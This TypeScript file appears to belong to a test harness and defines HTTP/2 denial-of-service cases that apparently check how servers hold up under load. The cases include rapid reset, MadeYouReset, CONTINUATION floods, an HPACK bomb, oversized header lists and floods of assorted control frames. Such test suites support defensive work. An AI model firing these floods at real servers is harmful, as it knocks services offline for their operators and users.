import { type Flood, flood, same, streams } from "../../clients/flood.ts";
import {
  type Fields,
  flags,
  frame,
  headerBlock,
  headers,
  indexedLiteral,
  many,
  ping,
  reset,
  settings,
  settingsAck,
  types,
  windowUpdate,
  word,
} from "../../clients/http2-frames.ts";
import { begin, getFields, grpcCall, postFields } from "../../clients/requests.ts";
import type { Attack } from "../../harness/attack.ts";

const get = headerBlock(getFields);
const { data, continuation, goaway, priority, pushPromise } = types;

/** Streams that are begun and reset with a code. */
const rapidReset = (code?: number) =>
  streams(100, (stream) => Buffer.concat([headers(stream, get), reset(stream, code)]));

/** Whole calls, each followed by a frame that ends or breaks its stream. */
const callThen = (last: (stream: number) => Uint8Array) =>
  streams(100, (stream) => Buffer.concat([grpcCall(stream), last(stream)]));

export const http2Resets: readonly Attack[] = [
  { name: "rapid reset", row: "H2-1", memory: 96, amplification: 1, run: flood(rapidReset()) },
  {
    name: "rapid reset from twenty addresses",
    row: "H2-1",
    memory: 128,
    run: flood({ ...rapidReset(), connections: 20, addresses: 20 }),
  },
  { name: "rapid reset without an error", row: "H2-1", memory: 96, amplification: 1, run: flood(rapidReset(0)) },
  { name: "RST_STREAM after a complete call", row: "H2-2", memory: 96, run: flood(callThen(reset)) },
  {
    name: "zero-increment WINDOW_UPDATE (MadeYouReset)",
    row: "H2-2",
    memory: 96,
    run: flood(callThen((stream) => windowUpdate(stream, 0))),
  },
  {
    name: "DATA after END_STREAM",
    row: "H2-2",
    memory: 96,
    run: flood(callThen((stream) => frame(data, 0, stream, [0]))),
  },
  { name: "RST_STREAM on idle streams", row: "H2-5", memory: 64, run: flood(streams(100, reset)) },
];

const eight = Buffer.alloc(8);
const opening = begin(1);

/** A field of so many bytes. */
const field = (length: number): Buffer => headerBlock([["x", "a".repeat(length)]]);

/** HEADERS without END_HEADERS, which CONTINUATION frames follow. */
const unfinished = headers(1, getFields, 0);
const continued = (block: Uint8Array | number[]): Buffer => frame(continuation, 0, 1, block);

const floods: Readonly<Record<string, Flood>> = {
  "endless CONTINUATION": { opening: unfinished, ...same(continued(field(1_000))) },
  "CONTINUATION of 16 KB": { opening: unfinished, ...same(continued(field(16_000)), 1) },
  "empty CONTINUATION": { opening: unfinished, ...same(continued([])) },
  "aborted CONTINUATION": { opening: unfinished, ...same(continued(field(100))), breakAfter: 1, lawful: true },
  SETTINGS: same(settings([3, 100])),
  "empty SETTINGS": same(settings()),
  "SETTINGS of 100 entries": same(settings(...Array.from({ length: 100 }, (_, i) => [3, i] as const))),
  "unsolicited SETTINGS ACK": same(settingsAck),
  PING: same(ping),
  "unsolicited PING ACK": same(frame(types.ping, flags.ack, 0, eight)),
  PRIORITY: same(frame(priority, 0, 1, [...word(0), 16])),
  "self-dependent PRIORITY": same(frame(priority, 0, 3, [...word(3), 16])),
  "empty DATA": { opening, ...same(frame(data, 0, 1)) },
  "padding-only DATA": { opening, ...same(frame(data, flags.padded, 1, [9, ...Array<number>(9).fill(0)])) },
  "DATA on stream 0": same(frame(data, 0, 0, [0])),
  "WINDOW_UPDATE of the connection": same(windowUpdate(0, 1)),
  "WINDOW_UPDATE of a stream": { opening, ...same(windowUpdate(1, 1)) },
  "flow-control window overflow": same(windowUpdate(0, 0x7fff_ffff)),
  "unknown frame types": same(frame(0x77, 0, 0, Buffer.alloc(16))),
  PUSH_PROMISE: { opening, ...same(frame(pushPromise, flags.endHeaders, 1, word(2))) },
  "repeated GOAWAY": same(frame(goaway, 0, 0, eight)),
  "oversized frames": same(frame(data, 0, 1, Buffer.alloc(65_536)), 1),
  "even stream identifiers": same(headers(2, getFields)),
  "garbage after the preface": same(Buffer.alloc(16_384, 0xa7), 1),
};

export const http2Floods: readonly Attack[] = Object.entries(floods).map(([name, options]) => ({
  name,
  row: name.includes("CONTINUATION") ? (options.breakAfter === undefined ? "H2-3" : "H2-4") : "H2-5",
  memory: 64,
  run: flood(options),
}));

const blocks = (block: Uint8Array) => streams(20, (stream) => headers(stream, block));
const withFields = (...more: Fields) => blocks(headerBlock([...getFields, ...more]));

/** HEADERS and CONTINUATION frames of at most 16 KB that carry one header block. */
function split(stream: number, block: Buffer): Buffer {
  const size = 16_000;
  const parts = Math.ceil(block.length / size);
  return many(parts, (part) => {
    const flag = part === parts - 1 ? flags.endHeaders : 0;
    const bytes = block.subarray(part * size, (part + 1) * size);
    return part === 0 ? headers(stream, bytes, flag | flags.endStream) : frame(continuation, flag, stream, bytes);
  });
}

const large = headerBlock([...getFields, ...[0, 1, 2, 3].map((i) => [`x-${i}`, "a".repeat(15_000)] as const)]);
const connect: Fields = [
  [":method", "CONNECT"],
  [":authority", "a:80"],
];

const headerFloods: Readonly<Record<string, readonly [row: string, flood: Flood]>> = {
  "HPACK bomb": [
    "H2-6",
    {
      // One field of 4 KB is added to the dynamic table; each byte that follows is an indexed reference to it.
      opening: headers(1, Buffer.concat([get, indexedLiteral("x", "a".repeat(4_000))])),
      ...blocks(Buffer.concat([get, Buffer.alloc(8_000, 0xbe)])),
    },
  ],
  "header lists of 60 KB": ["H2-8", streams(4, (stream) => split(stream, large))],
  "1,500 fields": ["H2-8", withFields(...Array<Fields[number]>(1_500).fill(["x", "a"]))],
  "empty header names": ["H2-8", withFields(["", "a"])],
  "uppercase header names": ["H2-8", withFields(["X-A", "b"])],
  CONNECT: ["H2-8", blocks(headerBlock(connect))],
  // 0x3f 0xe1 0x1f sets the table size to 4096 bytes, 0x20 to 0.
  "HPACK table size updates": [
    "H2-8",
    { ...blocks(Buffer.concat([Buffer.from([0x20, 0x3f, 0xe1, 0x1f]), get])), lawful: true },
  ],
  "call flood over the rate limit": [
    "LIM-1",
    { ...blocks(headerBlock(postFields("/generate", "application/json"))), lawful: true },
  ],
};

export const http2Headers: readonly Attack[] = Object.entries(headerFloods).map(([name, [row, options]]) => ({
  name,
  row,
  memory: 96,
  run: flood(options),
}));
